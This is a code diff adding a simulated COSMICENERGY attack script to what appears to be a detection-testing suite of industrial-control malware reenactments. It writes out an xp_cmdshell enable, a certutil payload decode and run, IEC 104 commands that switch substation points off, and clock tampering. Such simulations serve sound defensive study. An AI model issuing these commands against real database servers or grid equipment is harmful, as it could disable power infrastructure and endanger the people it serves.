@@ -1,8 +1,9 @@
 /** Messages of these programs by public analyses, step by step. Sources: README.md. */
 import * as codesys from '#protocols/codesys-v3/testing/encode'
 import * as fins from '#protocols/fins/testing/encode'
-import { switching } from '#protocols/iec104/testing/encode'
+import { clock, switching } from '#protocols/iec104/testing/encode'
 import { link } from '#protocols/mbus/captures/script'
+import * as tds from '#protocols/mssql/testing/encode'
 import { secureShell } from '../conversations/encrypted.ts'
 import { begin104, CAUSE, type Iec104Conversation, interrogation, position } from '../conversations/iec104.ts'
 import { MODBUS_PORT, ModbusConversation } from '../conversations/modbus.ts'
@@ -283,4 +284,81 @@ const fuxnet: AttackScript = {
   ],
 }
 
-export const scripts: readonly AttackScript[] = [industroyer2, frostyGoop, incontroller, fuxnet]
+const OF_LIGHTWORK = { actor: site.historian, victims: site.stations }
+const TDS_PORT = 1433
+/** LIGHTWORK has eight addresses built in. */
+const LIGHTWORK_ADDRESSES = [1101, 1102, 1103, 1104, 1105, 1106, 1107, 1108]
+/** IEC 60870-5-101 §7.3.4.4. */
+const CLOCK = 103
+
+/** COSMICENERGY: PIEHOP starts LIGHTWORK on a database server, which switches points of stations by IEC 104 and is deleted. */
+const cosmicEnergy: AttackScript = {
+  name: 'cosmicenergy',
+  steps: [
+    step('database-shell-used', 'T0807', 'shell|command|sql', {
+      actor: site.engineering,
+      victims: [site.historian],
+      *play(world) {
+        const connection = yield* world.connect(site.engineering, site.historian, TDS_PORT)
+        const say = (statement: string) =>
+          connection.ask(tds.batch(statement), tds.packet('response', new Uint8Array(13).fill(0xfd, 0, 1)))
+        yield* connection.ask(
+          tds.packet('prelogin', tds.preloginOptions(0, 0, 2)),
+          tds.packet('response', tds.preloginOptions(15, 2000, 2)),
+        )
+        yield* connection.fromClient(tds.login('ENGINEERING', 'sa', 'piehop'))
+        yield* say("EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE")
+        yield* say(
+          "EXEC xp_cmdshell 'certutil -decode C:\\Windows\\Temp\\r3_iec104_control.txt r3_iec104_control.exe'",
+        )
+        yield* say("EXEC xp_cmdshell 'C:\\Windows\\Temp\\r3_iec104_control.exe 10.62.0.11 2404 OFF'")
+        yield* connection.close()
+      },
+    }),
+    step('stations-interrogated-by-server', 'T0801', 'process values|session|control centre|master', {
+      ...OF_LIGHTWORK,
+      *play(world) {
+        for (const station of site.stations) {
+          const talk = yield* begin104(world, site.historian, station)
+          yield* talk.ask(
+            interrogation(1, CAUSE.activation),
+            interrogation(1, CAUSE.confirmation),
+            position(1, 2001, 2, CAUSE.interrogated),
+            interrogation(1, CAUSE.termination),
+          )
+          yield* talk.connection.close()
+          yield seconds(1)
+        }
+      },
+    }),
+    step('points-switched', 'T1692.001', 'command|switch|operat', {
+      ...OF_LIGHTWORK,
+      *play(world) {
+        for (const station of site.stations) {
+          const talk = yield* begin104(world, site.historian, station)
+          for (const address of LIGHTWORK_ADDRESSES) {
+            const command = (cause: number) => singleCommand(address, false, false, cause)
+            yield* talk.ask(command(CAUSE.activation), command(CAUSE.confirmation))
+          }
+          yield* talk.connection.close()
+        }
+      },
+    }),
+    step('clocks-set', 'T0836', 'clock|time', {
+      ...OF_LIGHTWORK,
+      *play(world) {
+        for (const station of site.stations) {
+          const talk = yield* begin104(world, site.historian, station)
+          const sync = (cause: number) => ({
+            ...{ type: CLOCK, cause, commonAddress: 1 },
+            objects: [{ address: 0, elements: clock(2026, 1, 1, 0, 0, 0) }],
+          })
+          yield* talk.ask(sync(CAUSE.activation), sync(CAUSE.confirmation))
+          yield* talk.connection.close()
+        }
+      },
+    }),
+  ],
+}
+
+export const scripts: readonly AttackScript[] = [industroyer2, frostyGoop, incontroller, fuxnet, cosmicEnergy]
